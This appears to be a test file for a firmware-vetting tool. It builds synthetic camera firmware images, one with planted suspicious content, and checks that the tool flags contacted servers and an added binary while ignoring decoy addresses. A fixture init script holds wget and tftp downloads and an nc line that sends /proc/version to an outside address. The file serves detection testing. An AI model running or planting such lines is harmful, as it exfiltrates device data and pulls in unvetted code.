# SPDX-License-Identifier: Apache-2.0
"""The worked example of docs/vet.md: the image that it tells of is built here, and what stands there is
what the program prints. CAMTRAIL_UPDATE_GOLDEN=1 writes what it prints into the document."""
import io
import json
import os
import re
import sys
import tarfile
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))
import cases  # noqa: E402

BEGIN, END = "<!-- example: begin -->\n", "<!-- example: end -->\n"
UPDATE = b"""#!/bin/sh
# left over from the bench
tftp -g -r boot.bin 192.168.1.250
wget -q http://fw.camera-cloud.net/new.bin -O /tmp/new.bin
nc 203.0.114.7 8800 < /proc/version
"""
CONFIG = b"""[cloud]
p2p = relay.camera-cloud.net
ntp = pool.ntp.org
upload = 1
"""
LICENCE = b"""Copyright (C) someone. Any questions go to www.licence-house.com; the number of this text
is 1.2.3.4, see also http://www.w3.org/1999/xhtml and example.com.
"""
ADDED = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\0".join(
    [b"socket", b"connect", b"getaddrinfo", b"/home/builder/ipc/src/main.c", b"203.0.114.7", b""])

BUSYBOX = b"\x7fELF\x01\x01\x01" + bytes(9) + b"BusyBox v1.20.2 (2020-03-13 10:00:00 CST)\0Usage: \0"
PRODUCT = b"product_model=HB-100\nfirmware_version=2.4.1 build 200313\n"
PASSWD = b"root:$1$abcdefgh$0123456789abcdefghijk.:0:0:root:/root:/bin/sh\n"


def civilian_members():
    return {"etc/app.conf": CONFIG.replace(b"upload = 1", b"upload = 0"), "bin/busybox": BUSYBOX,
            "etc/product.conf": PRODUCT, "usr/share/doc/COPYING": LICENCE}


def army_members():
    return {"etc/init.d/S99-update": UPDATE, "etc/app.conf": CONFIG, "usr/bin/agent": ADDED,
            "bin/busybox": BUSYBOX, "etc/product.conf": PRODUCT, "etc/passwd": PASSWD,
            "usr/share/doc/COPYING": LICENCE}


def packed(members):
    """A ZIP archive inside a tar archive, nothing compressed and no clock: the same bytes anywhere."""
    inner, outer = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, (2024, 3, 1, 8, 0, 0))
            info.create_system = 3
            info.external_attr = (0o100755 if "/S99" in name or "/bin/" in name else 0o100644) << 16
            z.writestr(info, data)
    with tarfile.open(fileobj=outer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        entry = tarfile.TarInfo("rootfs.zip")
        entry.size = len(inner.getvalue())
        tar.addfile(entry, io.BytesIO(inner.getvalue()))
    return outer.getvalue()


def images(c):
    for name, members in (("army.bin", army_members()), ("civil.bin", civilian_members())):
        if not (c.scratch / name).exists():
            (c.scratch / name).write_bytes(packed(members))
    return "army.bin", "civil.bin"


def printed(c, *arguments):
    done = c.run("vet", *arguments, "--width", "100", env=c.environment(LC_ALL="C.UTF-8"))
    assert done.returncode in (0, 1), done.err
    # databases and tables have dates and digests of their own
    return re.sub(r"\n+What this does not show\n.*", "\n", done.out, flags=re.S)


def test_the_example_is_what_is_printed(c):
    if not (c.source / "node_modules/@ip-location-db").exists():
        raise cases.Skip("the databases of countries are not installed")
    document = c.source / "docs/vet.md"
    text = document.read_text(encoding="utf-8")
    before, rest = text.split(BEGIN)
    _, after = rest.split(END)
    block = "".join(("    " + line).rstrip() + "\n" for line in printed(c, images(c)[0]).splitlines())
    if os.environ.get("CAMTRAIL_UPDATE_GOLDEN"):
        document.write_text(f"{before}{BEGIN}{block}{END}{after}", encoding="utf-8")
        return
    assert rest.split(END)[0] == block, f"docs/vet.md does not show what is printed:\n{block}"


def test_the_example_finds_what_was_planted_and_no_decoy(c):
    done = c.run("vet", images(c)[0], "--json", "-")
    report = json.loads(done.out)
    servers = {s["name"] or s["address"] for s in report["images"][0]["servers"]}
    assert servers >= {"203.0.114.7", "fw.camera-cloud.net", "relay.camera-cloud.net", "pool.ntp.org"}, servers
    assert not servers & {"1.2.3.4", "www.w3.org", "example.com", "www.licence-house.com"}, servers
    assert report["images"][0]["suppressed"], "decoys are counted"
    assert done.returncode == 1, "a public address is carried"


def test_the_example_compared(c):
    done = c.run("vet", *images(c), "--compare", "--json", "-")
    (comparison,) = [x for x in json.loads(done.out)["comparisons"] if x["with"] == "image"]
    told = {(d["kind"], d["text"]) for d in comparison["differences"] if d["in"] == "left"}
    assert any(kind == "server" and "203.0.114.7" in text for kind, text in told), told
    assert any(kind == "program added" and "agent" in text for kind, text in told), told


cases.main(dict(sorted(globals().items())), sys.argv[1], sys.argv[2])
